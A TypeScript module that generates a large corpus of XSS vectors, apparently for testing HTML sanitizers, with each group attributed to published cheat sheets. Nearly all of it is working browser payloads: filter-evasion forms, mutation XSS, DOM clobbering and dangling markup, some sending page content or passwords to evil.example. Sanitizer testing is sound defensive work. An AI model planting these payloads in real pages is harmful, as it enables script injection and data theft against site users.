/**
 * Markup that has made browsers run script, send a request, or shadow a page's own names, after three published
 * collections. Each calls `top.ran()` where it works. What they list as a table is a cross product here.
 */
export interface VectorGroup {
  name: string;
  /** Who has published such vectors. */
  source: string;
  vectors: string[];
}

const words = (list: string) => list.trim().split(/\s+/);
const product = <A, B>(left: readonly A[], right: readonly B[], make: (a: A, b: B) => string): string[] =>
  left.flatMap((a) => right.map((b) => make(a, b)));

/** The elements of HTML, SVG and MathML, the obsolete ones and some of nobody's. */
export const tags = words(`
  a abbr acronym address applet area article aside audio b base basefont bdi bdo bgsound big blink blockquote body br
  button canvas caption center cite code col colgroup command content data datalist dd del details dfn dialog dir div dl
  dt element em embed fencedframe fieldset figcaption figure font footer form frame frameset geolocation h1 h6 head header
  hgroup hr html i iframe image img input ins isindex kbd keygen label layer legend li link listing main map mark marquee
  menu menuitem meta meter multicol nav nextid nobr noembed noframes noscript object ol optgroup option output p param
  picture plaintext portal pre progress q rb rp rt rtc ruby s samp script search section select selectedcontent shadow
  slot small source spacer span strike strong style sub summary sup svg table tbody td template textarea tfoot th thead
  time title tr track tt u ul var video wbr xmp x custom-element
  math mi mo mtext annotation-xml mglyph semantics
  animate animatemotion animatetransform circle defs desc ellipse feimage filter foreignobject g image line marker mask
  path pattern polygon rect set stop switch symbol text textpath tspan use view
`);

/** Every event that an element can have a handler for in some browser. */
export const events = words(`
  abort activate afterprint afterscriptexecute animationcancel animationend animationiteration animationstart auxclick
  beforeactivate beforecopy beforecut beforeinput beforematch beforepaste beforeprint beforescriptexecute beforetoggle
  beforeunload beforexrselect begin blur bounce cancel canplay canplaythrough change click close command contentvisibilityautostatechange
  contextlost contextmenu contextrestored copy cuechange cut dblclick drag dragend dragenter dragexit dragleave dragover
  dragstart drop durationchange emptied encrypted end ended error finish focus focusin focusout formdata fullscreenchange
  fullscreenerror gotpointercapture hashchange input invalid keydown keypress keyup languagechange load loadeddata
  loadedmetadata loadend loadstart location lostpointercapture mediaerror message messageerror mousedown mouseenter
  mouseleave mousemove mouseout mouseover mouseup mousewheel mozfullscreenchange offline online orientationchange
  pagehide pageshow paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout
  pointerover pointerrawupdate pointerup popstate progress promptaction promptdismiss propertychange ratechange readystatechange
  repeat reset resize resume scroll scrollend scrollsnapchange scrollsnapchanging search securitypolicyviolation seeked
  seeking select selectionchange selectstart show slotchange stalled start storage submit suspend timeupdate toggle
  touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection
  unload validationstatuschange volumechange waiting waitingforkey webkitanimationend webkitanimationiteration webkitanimationstart
  webkitfullscreenchange webkitmouseforcechanged webkitmouseforcedown webkitplaybacktargetavailabilitychanged
  webkittransitionend webkitwillrevealbottom wheel zoom
`);

const handlers = product(tags, events, (tag, event) => `<${tag} on${event}=top.ran()>x</${tag}>`);

/** What needs no visitor: the element brings about its own event. */
const autonomous = [
  ...product(words('img image input video audio object embed iframe'), words('error load'), (tag, event) =>
    tag === 'input'
      ? `<input type=image src=x: on${event}=top.ran()>`
      : `<${tag} src=x: data=x: on${event}=top.ran()>`,
  ),
  '<body onload=top.ran()>',
  '<svg onload=top.ran()>',
  '<svg><script>top.ran()</script></svg>',
  '<svg><animate onbegin=top.ran() attributeName=x dur=1s>',
  '<svg><set onbegin=top.ran() attributeName=x>',
  '<details open ontoggle=top.ran()>x</details>',
  '<marquee onstart=top.ran()>x</marquee>',
  '<input autofocus onfocus=top.ran()>',
  '<select autofocus onfocus=top.ran()></select>',
  '<textarea autofocus onfocus=top.ran()></textarea>',
  '<a autofocus tabindex=1 href=# onfocus=top.ran()>x</a>',
  '<video><source onerror=top.ran() src=x:></video>',
  '<audio src=x: onerror=top.ran()>',
  '<style onload=top.ran()></style>',
  '<link rel=stylesheet href=data:text/css, onload=top.ran()>',
  '<iframe onload=top.ran()></iframe>',
  '<object data=data:text/html, onload=top.ran()></object>',
  '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=top.ran()>x',
  '<p style="transition:color 1s" ontransitionrun=top.ran()>x',
  '<x contenteditable onbeforeinput=top.ran() autofocus>x',
  '<dialog open oncancel=top.ran() onclose=top.ran()><form method=dialog><button autofocus>x</button></form></dialog>',
  '<div popover id=p onbeforetoggle=top.ran()>x</div><button popovertarget=p>x</button>',
];

/** Ways to write an attribute that simple filters do not see. */
const writings = [
  '<img src=x:onerror=top.ran() onerror=top.ran()>',
  '<img/src=x:/onerror=top.ran()>',
  '<img\tsrc=x:\tonerror=top.ran()>',
  '<img\nsrc=x:\nonerror=top.ran()>',
  '<img\u000csrc=x:\u000conerror=top.ran()>',
  '<img src=x: onerror="top.ran()"',
  "<img src='x:' onerror='top.ran()'>",
  '<img src=`x:` onerror=`top.ran()`>',
  '<img src=x: ONERROR=top.ran()>',
  '<IMG SRC=x: OnErRoR=top.ran()>',
  '<img src=x: onerror =top.ran()>',
  '<img src=x: onerror\n=\ntop.ran()>',
  '<img src=x: onerror=&#116;op.ran()>',
  '<img src=x: onerror=&#x74;op.ran&lpar;)>',
  '<img src=x: onerror=top&period;ran()>',
  '<img src=x: onerror=\u0001top.ran()>',
  '<img src=x: "onerror=top.ran()>',
  '<img """><script>top.ran()</script>">',
  '<img src="x:" alt="a" "b" onerror=top.ran()>',
  '<img src=x:\u0000 onerror=top.ran()>',
  '<img \u0000onerror=top.ran() src=x:>',
  '<im\u0000g src=x: onerror=top.ran()>',
  '<img on\u0000error=top.ran() src=x:>',
  '<p title="a>b" onclick=top.ran()>x',
  '<p title=">" <img src=x: onerror=top.ran()>',
  '<a href=https://a.example/" onclick="top.ran()">x</a>',
  '<a href="https://a.example/&quot; onclick=&quot;top.ran()">x</a>',
  '<a href="https://a.example/&#34;&#32;onclick=top.ran()//">x</a>',
  '<a title="&quot;><img src=x: onerror=top.ran()>" href=https://a.example/>x</a>',
  '<img alt="&quot;&gt;&lt;img src=x: onerror=top.ran()&gt;" src=https://a.example/x.png>',
  "<img alt=`' onerror=top.ran() ` src=x:>",
  '<p =onclick=top.ran()>x',
  '<p onclick==top.ran()>x',
  '<p a="b"onclick=top.ran()>x',
  '<p/onclick=top.ran()/x>x',
  '<p xml:onclick=top.ran() xlink:onclick=top.ran() :onclick=top.ran() @click=top.ran()>x',
  '<p data-onclick=top.ran() ng-click=constructor.constructor("top.ran()")() v-on:click=top.ran()>{{constructor.constructor("top.ran()")()}}',
];

const scriptTags = [
  '<script>top.ran()</script>',
  '<SCRIPT>top.ran()</SCRIPT>',
  '<script\n>top.ran()</script\n>',
  '<script/x>top.ran()</script/x>',
  '<script x="</script>">top.ran()</script>',
  '<script src=data:,top.ran()></script>',
  '<script src=//evil.example/x.js></script>',
  '<script type=module>top.ran()</script>',
  '<script type=text/javascript;version=1.7>top.ran()</script>',
  '<script language=javascript>top.ran()</script>',
  '<<script>top.ran();//<</script>',
  '<scr<script>ipt>top.ran()</scr</script>ipt>',
  '<script>top.ran()//',
  '<script>top.ran()</script',
  '</script><script>top.ran()</script>',
  '<script><!--\ntop.ran()\n--></script>',
  '<script><!--<script>top.ran()</script>--></script>',
  '\u0000<script>top.ran()</script>',
  '<scr\u0000ipt>top.ran()</script>',
  '<\u0000script>top.ran()</script>',
  '<ｓcript>top.ran()</ｓcript>',
  '＜script＞top.ran()＜/script＞',
  '+ADw-script+AD4-top.ran()+ADw-/script+AD4-',
  '\u00bcscript\u00betop.ran()\u00bc/script\u00be',
  '%3Cscript%3Etop.ran()%3C/script%3E',
  '&lt;script&gt;top.ran()&lt;/script&gt;',
  '&amp;lt;script&amp;gt;top.ran()&amp;lt;/script&amp;gt;',
  '\\u003cscript\\u003etop.ran()\\u003c/script\\u003e',
  '<?xml version="1.0"?><script>top.ran()</script>',
  '<?php <script>top.ran()</script> ?>',
  '<![CDATA[<script>top.ran()</script>]]>',
  '<!--><script>top.ran()</script>-->',
  '<!---><script>top.ran()</script>-->',
  '<!-- --!><script>top.ran()</script> -->',
  '<!--[if true]><script>top.ran()</script><![endif]-->',
  '<!--[if gte IE 4]><script>top.ran()</script><![endif]-->',
  '<comment><img src="</comment><img src=x: onerror=top.ran())//">',
  '<!<script>top.ran()</script>>',
  '<!DOCTYPE html [<!ENTITY x "<script>top.ran()</script>">]>&x;',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">top.ran()</x:script>',
  '<html xmlns:xss><?import namespace="xss" implementation="//evil.example/x.htc"><xss:xss>x</xss:xss>',
];

/** Where an element takes an address: the address goes where the dollar is. */
const addressed = [
  '<a href="$">x</a>',
  '<area href="$" shape=default>',
  '<map name=m><area href="$"></map><img usemap=#m src=https://a.example/x.png>',
  '<base href="$"><a href="x">x</a>',
  '<form action="$"><input type=submit></form>',
  '<form id=f></form><button form=f formaction="$">x</button>',
  '<form><input type=image formaction="$" src=https://a.example/x.png></form>',
  '<isindex action="$" type=submit>',
  '<iframe src="$"></iframe>',
  '<frameset><frame src="$"></frameset>',
  '<embed src="$">',
  '<object data="$"></object>',
  '<object><param name=src value="$"><param name=movie value="$"></object>',
  '<applet codebase="$" archive="$" code="$"></applet>',
  '<img src="$">',
  '<img srcset="$ 1x, https://a.example/x.png 2x">',
  '<img dynsrc="$" lowsrc="$" longdesc="$">',
  '<input type=image src="$">',
  '<picture><source srcset="$"><img src=https://a.example/x.png></picture>',
  '<video src="$" poster="$"></video>',
  '<video><source src="$"><track src="$" default></video>',
  '<audio src="$"></audio>',
  '<bgsound src="$">',
  '<body background="$">',
  '<table background="$"><tr><td background="$">x</table>',
  '<blockquote cite="$">x</blockquote><q cite="$">x</q><del cite="$">x</del><ins cite="$">x</ins>',
  '<link rel=stylesheet href="$">',
  '<link rel=import href="$">',
  '<link rel=prefetch href="$"><link rel=preload as=script href="$"><link rel=modulepreload href="$">',
  '<link rel=manifest href="$"><link rel=icon href="$">',
  '<script src="$"></script>',
  '<html manifest="$">',
  '<meta http-equiv=refresh content="0;url=$">',
  '<meta http-equiv="refresh" content="0; $">',
  '<a href=https://a.example/ ping="$">x</a>',
  '<svg><a xlink:href="$"><text y=9>x</text></a></svg>',
  '<svg><a href="$"><text y=9>x</text></a></svg>',
  '<svg><use href="$#x" xlink:href="$#x"/></svg>',
  '<svg><image href="$" xlink:href="$"/></svg>',
  '<svg><feImage href="$"/></svg>',
  '<svg><script href="$" xlink:href="$"></script></svg>',
  '<svg><a><animate attributeName=href values="$" /><text y=9>x</text></a></svg>',
  '<svg><a><set attributeName=href to="$" /><text y=9>x</text></a></svg>',
  '<svg><a><animate attributeName=xlink:href from="$" to="$" begin=0 /><text y=9>x</text></a></svg>',
  '<math href="$">x</math>',
  '<math><mtext xlink:href="$">x</mtext></math>',
  '<math><maction actiontype="statusline#$" xlink:href="$">x</maction></math>',
  '<p style="background:url($)">x',
  '<p style="background:url(\'$\')">x',
  '<style>*{background:url($)}@import "$";</style>',
  '<portal src="$"></portal>',
  '<layer src="$"></layer><ilayer src="$"></ilayer>',
  '<xml src="$"></xml>',
  '<a href="$" target=_blank rel=opener>x</a>',
];

const dangerousAddresses = [
  'javascript:top.ran()',
  'javascript://%0atop.ran()',
  'javascript://https://a.example/%0Atop.ran()',
  'data:text/html,<script>top.ran()</script>',
  'data:text/html;base64,PHNjcmlwdD50b3AucmFuKCk8L3NjcmlwdD4=',
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.ran()'/>",
  'data:application/xhtml+xml,<x xmlns="http://www.w3.org/1999/xhtml"><script>top.ran()</script></x>',
  'data:text/javascript,top.ran()',
  'data:,top.ran()',
  'vbscript:top.ran()',
  'livescript:top.ran()',
  'mocha:top.ran()',
  'feed:javascript:top.ran()',
  'view-source:javascript:top.ran()',
  'jar:https://a.example/x.jar!/x.html',
  'blob:https://a.example/0',
  'filesystem:https://a.example/x',
  'file:///etc/passwd',
  'about:blank',
  'ms-its:mhtml:file://x',
  '//evil.example/x',
];

/** `javascript:` as browsers have read it and filters have not. */
const spellings = [
  'JaVaScRiPt:top.ran()',
  ' javascript:top.ran()',
  '\tjavascript:top.ran()',
  '\njavascript:top.ran()',
  ...[1, 2, 7, 8, 11, 12, 14, 27, 31].map((code) => `${String.fromCharCode(code)}javascript:top.ran()`),
  ...[1, 9, 10, 13, 27].map((code) => `&#${code};javascript:top.ran()`),
  ...['\u00a0', '\u2028', '\u2029', '\u200b', '\ufeff', '\u3000', '\u00ad', '\u180e', '\u202e'].map(
    (space) => `${space}javascript:top.ran()`,
  ),
  'java\tscript:top.ran()',
  'java\nscript:top.ran()',
  'java\r\nscript:top.ran()',
  'java\u0000script:top.ran()',
  'java&#0;script:top.ran()',
  'jav&#x09;ascript:top.ran()',
  'jav&#x0A;ascript:top.ran()',
  'jav&#x0D;ascript:top.ran()',
  'j&Tab;a&NewLine;v&Tab;ascript:top.ran()',
  'javascript&colon;top.ran()',
  'javascript&#58;top.ran()',
  'javascript&#x3A;top.ran()',
  'javascript&#0000058top.ran()',
  'javascript\t:top.ran()',
  'javascript\n:\ntop.ran()',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;top.ran()',
  '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058top.ran()',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;top.ran()',
  '&amp;#106;avascript:top.ran()',
  '\\u006aavascript:top.ran()',
  '%6aavascript:top.ran()',
  'javascript%3atop.ran()',
  'ｊavascript:top.ran()',
  'javaſcript:top.ran()',
  'java/**/script:top.ran()',
  'javascript:/*--></title></style></textarea></script></xmp><svg/onload=top.ran()>',
  'javascript:&quot;<script>top.ran()</script>&quot;',
  'java<!-- -->script:top.ran()',
  'javascript:javascript:top.ran()',
  'https:javascript:top.ran()',
  'https://a.example/\njavascript:top.ran()',
  'https://x:y@javascript:top.ran()/',
];

const addresses = [
  ...product(addressed, dangerousAddresses, (place, address) => place.replaceAll('$', () => address)),
  ...product(addressed.slice(0, 12), spellings, (place, address) => place.replaceAll('$', () => address)),
];

const styles = [
  '<p style="width:expression(top.ran())">x',
  '<p style="xss:expr/**/ession(top.ran())">x',
  '<p style="background:url(javascript:top.ran())">x',
  '<p style="behavior:url(//evil.example/x.htc)">x',
  '<p style="-moz-binding:url(//evil.example/x.xml#x)">x',
  '<p style="background:url(//evil.example/?leak)">x',
  '<p style="position:fixed;inset:0;z-index:9999">x',
  '<p style="list-style-image:url(//evil.example/)">x',
  '<p style="content:url(//evil.example/)">x',
  '<p style="\\62ackground:u\\72l(//evil.example/)">x',
  '<p style=\'font-family:"x;background:url(//evil.example/)"\'>x',
  '<style>@import"//evil.example/x.css";</style>',
  '<style>p{background:url(//evil.example/)}</style>',
  '<style>@font-face{font-family:x;src:url(//evil.example/x.woff)}p{font-family:x}</style>',
  '<style><!--</style><script>top.ran()</script>--></style>',
  '<style>*{x:\uff45xpression(top.ran())}</style>',
  '<style></style\n><img src=x: onerror=top.ran()></style>',
  '<style><img src="</style><img src=x: onerror=top.ran()//">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<link rel=stylesheet href="data:text/css,*{background:url(//evil.example/)}">',
];

/** Markup that means one thing to the parser of a filter and another to that of a browser (mutation XSS). */
const mutations = [
  '<noscript><p title="</noscript><img src=x: onerror=top.ran()>">',
  '<noscript><style></noscript><img src=x: onerror=top.ran()>',
  '<noscript><!--</noscript><img src=x: onerror=top.ran()>--></noscript>',
  '<noembed><img title="</noembed><img src=x: onerror=top.ran()>"></noembed>',
  '<noframes><img title="</noframes><img src=x: onerror=top.ran()>"></noframes>',
  '<iframe><img title="</iframe><img src=x: onerror=top.ran()>"></iframe>',
  '<xmp><p title="</xmp><img src=x: onerror=top.ran()>"></xmp>',
  '<xmp><!--</xmp><img src=x: onerror=top.ran()>--></xmp>',
  '<title><p title="</title><img src=x: onerror=top.ran()>"></title>',
  '<textarea><p title="</textarea><img src=x: onerror=top.ran()>"></textarea>',
  '<textarea><!--</textarea><img src=x: onerror=top.ran()>--></textarea>',
  '<plaintext><img src=x: onerror=top.ran()>',
  '<listing>&lt;img src=x: onerror=top.ran()&gt;</listing>',
  '<select><style></select><img src=x: onerror=top.ran()></style></select>',
  '<select><template><style></select><img src=x: onerror=top.ran()></style></template></select>',
  '<select><noembed></select><script>top.ran()</script></noembed>',
  '<select><option><iframe></select><b><script>top.ran()</script>',
  '<template><script>top.ran()</script></template>',
  '<template><template><img src=x: onerror=top.ran()></template></template>',
  '<template shadowrootmode=open><script>top.ran()</script></template>',
  '<div><template shadowrootmode=open><img src=x: onerror=top.ran()></template></div>',
  '<svg></p><style><a id="</style><img src=x: onerror=top.ran()>">',
  '<svg><p><style><g title="</style><img src=x: onerror=top.ran()>">',
  '<svg><style><img src=x: onerror=top.ran()></style></svg>',
  '<svg><style>&lt;img src=x: onerror=top.ran()&gt;</style></svg>',
  '<svg><title><style><img src="</style><img src=x: onerror=top.ran()>">',
  '<svg><desc><style><img src="</style><img src=x: onerror=top.ran()>">',
  '<svg><foreignObject><p><style><img src="</style><img src=x: onerror=top.ran()>">',
  '<svg><foreignobject><iframe srcdoc="&lt;script&gt;top.ran()&lt;/script&gt;"></iframe></foreignobject></svg>',
  '<svg><![CDATA[><img src=x: onerror=top.ran()>]]></svg>',
  '<svg><script>&#116;op.ran()</script></svg>',
  '<svg><script>/*<![CDATA[*/top.ran()/*]]>*/</script></svg>',
  '<svg><script/href=data:,top.ran() />',
  '<svg><noscript><style></noscript><img src=x: onerror=top.ran()></style></svg>',
  '<svg><textarea><style></textarea><img src=x: onerror=top.ran()></style></svg>',
  '<svg><!--<p>--><img src=x: onerror=top.ran()></svg>',
  '<svg><b><b title="--></b><img src=x: onerror=top.ran()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=top.ran()&gt;">',
  '<math><mtext><table><mglyph><style><math><img src=x: onerror=top.ran()>',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=top.ran()>"></style></h1>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=top.ran()>',
  '<form><div></form><form><mglyph><style></div><img src=x: onerror=top.ran()>',
  '<math><annotation-xml encoding="text/html"><style><img src="</style><img src=x: onerror=top.ran()>"></annotation-xml></math>',
  '<math><annotation-xml encoding="application/xhtml+xml"><img src=x: onerror=top.ran()></annotation-xml></math>',
  '<math><mi><style></mi><img src=x: onerror=top.ran()></style></math>',
  '<math><mo><xmp><p title="</xmp><img src=x: onerror=top.ran()>"></mo></math>',
  '<math><semantics><annotation-xml encoding=svg><svg><style><img src=x: onerror=top.ran()></style></svg></annotation-xml></semantics></math>',
  '<math><p></p><style><!--</style><img src/onerror=top.ran()>--></style></math>',
  '<math></p><style><!--</style><img src/onerror=top.ran()>--></style></math>',
  '<svg></br><style><!--</style><img src/onerror=top.ran()>--></style></svg>',
  '<svg><font color=x><style><img src=x: onerror=top.ran()></style></font></svg>',
  '<table><svg><td><style><img src="</style><img src=x: onerror=top.ran()>"></td></svg></table>',
  '<table><tr><td><svg></td><style><img src=x: onerror=top.ran()></style></table>',
  '<table><a href=https://a.example/><table><a href=javascript:top.ran()>x</table></a></table>',
  '<table><img src=x: onerror=top.ran()><tr><td>x</table>',
  '<table><caption><svg></caption><style><img src=x: onerror=top.ran()></style></table>',
  '<table><colgroup><template><img src=x: onerror=top.ran()></template></colgroup></table>',
  '<a><b><a><img src=x: onerror=top.ran()></b></a>',
  '<p><svg><p><img src=x: onerror=top.ran()></p></svg></p>',
  '<h1><h2><img src=x: onerror=top.ran()></h1>',
  '<frameset><noframes><body onload=top.ran()></noframes></frameset>',
  '<img src="x:` `<script>top.ran()</script>"` `>',
  '<listing><img title="&lt;/listing&gt;&lt;img src=x: onerror=top.ran()&gt;"></listing>',
  '<article xmlns="urn:img src=x: onerror=top.ran()//">x</article>',
  '<p style="font-family:\'foo&#x27;;x:expression(top.ran());/*\'">x',
  '<!-- \u0000--><img src=x: onerror=top.ran()> -->',
  '<pre>\n\n<img src=x: onerror=top.ran()></pre>',
  '<li><![if !support]><img src=x: onerror=top.ran()><![endif]></li>',
  '<ruby><rt><style></rt><img src=x: onerror=top.ran()></style></ruby>',
  '<dialog><menu><select></menu><img src=x: onerror=top.ran()></select></dialog>',
  `${'<div>'.repeat(500)}<img src=x: onerror=top.ran()>${'</div>'.repeat(500)}`,
  `${'<svg>'.repeat(200)}<style><img src=x: onerror=top.ran()></style>`,
  `${'<form><h1>'.repeat(100)}<math><mtext></form><form><mglyph><style></math><img src onerror=top.ran()>`,
  `${'<b>'.repeat(513)}<table>${'<b>'.repeat(20)}<script>top.ran()</script>`,
];

const frames = [
  '<iframe srcdoc="<script>top.ran()</script>"></iframe>',
  '<iframe srcdoc="&lt;script&gt;top.ran()&lt;/script&gt;"></iframe>',
  '<iframe srcdoc="&lt;img src=x: onerror=top.ran()&gt;"></iframe>',
  '<iframe src="javascript:top.ran()"></iframe>',
  '<iframe src="//evil.example/"></iframe>',
  '<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>top.ran()</script>">',
  '<object type=text/html data="data:text/html,<script>top.ran()</script>"></object>',
  '<object type="application/x-shockwave-flash" data=//evil.example/x.swf allowscriptaccess=always>x</object>',
  '<object classid="clsid:ae24fdae-03c6-11d1-8b76-0080c744f389"><param name=url value=javascript:top.ran()></object>',
  '<embed code=//evil.example/x.swf allowscriptaccess=always>',
  "<embed type=image/svg+xml src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.ran()'/>\">",
  '<applet code=x.class codebase=//evil.example/></applet>',
  '<fencedframe src=//evil.example/></fencedframe>',
  '<frameset onload=top.ran()><frame src=//evil.example/></frameset>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<meta http-equiv=refresh content="0;url=data:text/html,<script>top.ran()</script>">',
  '<meta http-equiv=set-cookie content="a=b">',
  '<meta http-equiv=content-security-policy content="script-src *">',
  '<meta http-equiv=content-type content="text/html;charset=utf-7">',
  '<meta name=referrer content=unsafe-url>',
  '<base href=//evil.example/><script src=x.js></script>',
  '<base target="<script>top.ran()</script>"><a href=https://a.example/>x</a>',
  '<form action=//evil.example/ id=f><input name=password></form><button form=f autofocus onfocus=click()>x</button>',
  '<form><input type=submit formaction=//evil.example/ autofocus></form>',
  '<keygen autofocus onfocus=top.ran()>',
  '<link rel=dns-prefetch href=//evil.example/><link rel=preconnect href=//evil.example/>',
  '<link rel=prefetch href=//evil.example/x><link rel=prerender href=//evil.example/x>',
  '<script type=speculationrules>{"prefetch":[{"urls":["//evil.example/x"]}]}</script>',
  '<script type=importmap>{"imports":{"a":"//evil.example/x.js"}}</script>',
  '<video poster=//evil.example/x src=//evil.example/y autoplay></video>',
  '<audio src=//evil.example/y autoplay preload></audio>',
  '<img srcset="//evil.example/x 1x" attributionsrc=//evil.example/z>',
  '<a href=https://a.example/ ping=//evil.example/ attributionsrc=//evil.example/>x</a>',
  '<body background=//evil.example/x>',
  '<svg><image href=//evil.example/x /></svg>',
  '<svg><use href=//evil.example/x#y /></svg>',
  '<input type=image src=//evil.example/x>',
  '<html manifest=//evil.example/x>',
  '<command icon=//evil.example/x>',
];

/** An attribute or element that is never closed, to carry off what follows it on the page. */
const dangling = [
  "<img src='//evil.example/?",
  '<img src="//evil.example/?',
  '<img src=`//evil.example/?',
  "<a href='//evil.example/?",
  "<base target='",
  "<link rel=stylesheet href='//evil.example/?",
  "<meta http-equiv=refresh content='0;url=//evil.example/?",
  '<form action=//evil.example/><button>x</button><textarea name=x>',
  '<form action=//evil.example/><select name=x><option>',
  '<form action=//evil.example/><input name=x type=hidden value="',
  "<iframe src='//evil.example/?",
  "<object data='//evil.example/?",
  "<table background='//evil.example/?",
  "<style>@import'//evil.example/?",
  '<style>*{background:url("//evil.example/?',
  '<!--',
  '<![CDATA[',
  '<textarea>',
  '<title>',
  '<plaintext>',
  '<xmp>',
  '<script>',
  '<style>',
  '<template>',
  '<svg><style>',
  '<p title="',
  "<p title='",
  '<p ',
  '<',
  '</',
  '<!',
  '<?',
  '&',
  '&#',
  '</div></div></div></body></html><script>top.ran()</script>',
];

/** Names that shadow what a page's own script looks up by name. */
const clobberings = [
  ...product(
    words('id name'),
    words(
      'ran document body cookie location forms head parentNode attributes getElementById currentScript default',
    ),
    (attribute, value) =>
      `<a ${attribute}=${value} href=https://a.example/>x</a><img ${attribute}=${value} src=https://a.example/x.png>`,
  ),
  '<form id=config><input name=url value=//evil.example/></form>',
  '<form name=body><input name=firstChild></form>',
  '<form id=x><output id=y>z</output></form>',
  '<a id=config></a><a id=config name=url href=//evil.example/>x</a>',
  '<iframe name=config srcdoc="<a id=url href=//evil.example/>"></iframe>',
  '<img name=createElement><img name=getElementsByTagName>',
  '<object name=documentElement></object><embed name=scripts>',
  '<form><input name=nodeName><input name=parentNode><input name=attributes></form>',
  '<p is=x-y slot=z part=w itemid=v>x',
  '<p class="btn admin-only" role=alert aria-label=x tabindex=1 accesskey=a contenteditable draggable=true>x',
];

export const vectorGroups: VectorGroup[] = [
  {
    name: 'every event handler on every element',
    source: 'PortSwigger, Cross-site scripting (XSS) cheat sheet: tags and events',
    vectors: handlers,
  },
  {
    name: 'elements that bring about their own events',
    source: 'PortSwigger, XSS cheat sheet: event handlers that do not require user interaction',
    vectors: autonomous,
  },
  {
    name: 'writings of attributes',
    source: 'OWASP, XSS filter evasion cheat sheet',
    vectors: writings,
  },
  {
    name: 'script elements',
    source: 'OWASP, XSS filter evasion cheat sheet; html5sec.org',
    vectors: scriptTags,
  },
  {
    name: 'addresses',
    source:
      'OWASP, XSS filter evasion cheat sheet: embedded tab, null, hexadecimal references; PortSwigger, protocols',
    vectors: addresses,
  },
  { name: 'styles', source: 'OWASP, XSS filter evasion cheat sheet: STYLE; html5sec.org', vectors: styles },
  {
    name: 'mutations',
    source:
      'Heiderich et al., mXSS Attacks (CCS 2013); Bentkowski, Mutation XSS via namespace confusion (2020); html5sec.org',
    vectors: mutations,
  },
  {
    name: 'frames, forms and metadata',
    source: 'html5sec.org; PortSwigger, restricted characters',
    vectors: frames,
  },
  { name: 'dangling markup', source: 'PortSwigger, XSS cheat sheet: dangling markup', vectors: dangling },
  { name: 'clobbering', source: 'PortSwigger, DOM clobbering; domclob.xyz', vectors: clobberings },
];
